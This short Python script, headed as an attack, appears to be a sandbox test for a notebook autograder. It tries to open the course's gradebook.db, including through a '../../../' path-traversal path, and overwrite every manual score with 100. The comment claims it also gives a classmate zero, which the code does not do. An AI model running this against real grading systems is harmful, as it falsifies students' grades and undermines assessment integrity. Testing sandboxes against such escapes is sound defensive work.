# attack: writing the gradebook
# A blank notebook gives itself full marks and a classmate zero, straight in the database.
import sqlite3
from pathlib import Path

for path in (Path(__COURSE__) / "gradebook.db", Path("../../../gradebook.db")):
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=5)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        print("wrote", path)
    except Exception as err:
        print("could not write", path, type(err).__name__, err)
